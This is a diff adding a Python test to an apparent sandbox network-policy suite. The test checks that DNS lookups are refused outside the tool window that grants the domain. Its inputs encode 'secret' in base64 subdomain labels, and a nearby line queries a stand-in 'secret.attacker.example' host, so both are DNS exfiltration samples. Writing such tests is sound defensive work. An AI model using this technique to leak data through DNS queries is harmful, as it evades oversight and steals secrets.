@@ -117,6 +117,25 @@ show(answers[0].endswith(b"\\x04text"))
     assert done.refused() == ["else.example.com"]
 
 
+def test_nothing_is_asked_outside_of_the_window_that_grants_the_name(here: Network) -> None:
+    """Who serves the domain reads the name: a question carries what another call has read."""
+    code = (
+        ASK
+        + """
+def both():
+    names = ("c2VjcmV0.example.org", "_c2VjcmV0._x.api.example.com")
+    return [parts(udp(query(name, 16)))[1:3] for name in names]
+window("read"); show(both())
+window("fetch"); show(both())
+"""
+    )
+    grant = '[tools.fetch]\nnet = ["api.example.com", "*.example.org:8080"]\n[tools.read]\n'
+    done = here.run(grant, code)
+    assert done.values == [[[2, 0]] * 2, [[0, 1]] * 2]
+    assert [message["kind"] for message in done.messages] == ["query"] * 2
+    assert done.refused("lookup") == ["c2vjcmv0.example.org", "_c2vjcmv0._x.api.example.com"]
+
+
 def test_an_argument_does_not_make_a_question_to_the_outside(here: Network) -> None:
     code = ASK + 'show([parts(udp(query("secret.attacker.example", kind))) for kind in (1, 16)])'
     done = here.run('[tools.fetch]\nnet = ["$arg:url"]\n', code)
